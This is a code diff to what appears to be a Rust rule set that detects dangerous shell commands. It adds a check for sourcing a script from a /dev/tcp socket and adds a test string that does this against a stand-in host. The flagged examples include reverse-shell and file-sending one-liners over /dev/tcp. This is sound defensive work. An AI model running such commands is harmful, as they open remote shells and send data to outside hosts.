@@ -208,6 +208,7 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
             "exec 3<>\"/dev/tcp/$h/$p\"; cat x >&3",
             "until (echo $x > /dev/tcp/$1/$2) 2>/dev/null; do sleep 1; done",
             "(exec 3<>\"/dev/tcp/$h/$p\"; sh /dev/fd/3)",
+            "source /dev/tcp/x.example/80",
         ],
         silent: &[
             "(echo > /dev/tcp/localhost/5432) 2>/dev/null",
@@ -441,14 +442,15 @@ fn shell_on_socket<'a>(scene: &Scene<'a>) -> Found<'a> {
 }
 
 fn redirected_to_socket<'a>(scene: &Scene<'a>) -> Found<'a> {
-    let socket = |target: &Target| {
-        let text = target.text();
+    let socket = |text: &str| {
         let rest = text.strip_prefix("/dev/tcp/").or_else(|| text.strip_prefix("/dev/udp/"));
         // To see whether a service of this machine is up is how scripts wait for it.
         rest.is_some_and(|rest| !["localhost/", "127.0.0.1/"].iter().any(|own| rest.starts_with(own)))
     };
     let connects = |inv: &&Invocation| {
-        inv.writes.iter().any(|(target, _)| socket(target)) || inv.reads.iter().any(socket)
+        inv.writes.iter().any(|(target, _)| socket(target.text()))
+            || inv.reads.iter().any(|target| socket(target.text()))
+            || runs(inv, &["source", "."]) && inv.operands.first().is_some_and(|arg| socket(&arg.text()))
     };
     let mut connected = scene.invocations().iter().filter(connects).peekable();
     if connected.peek().is_some() {
@@ -457,7 +459,7 @@ fn redirected_to_socket<'a>(scene: &Scene<'a>) -> Found<'a> {
     }
     // A redirection without a command opens it and closes it again; only what is written is told to anybody.
     let tells = |kind: EffectKind| !matches!(kind, EffectKind::SystemCommand | EffectKind::FileRead);
-    let effects = scene.effects().find(|(effect, _)| tells(effect.kind) && socket(&effect.target));
+    let effects = scene.effects().find(|(effect, _)| tells(effect.kind) && socket(effect.target.text()));
     Found::from(effects.map(|(effect, _)| effect.target.text()))
 }
 
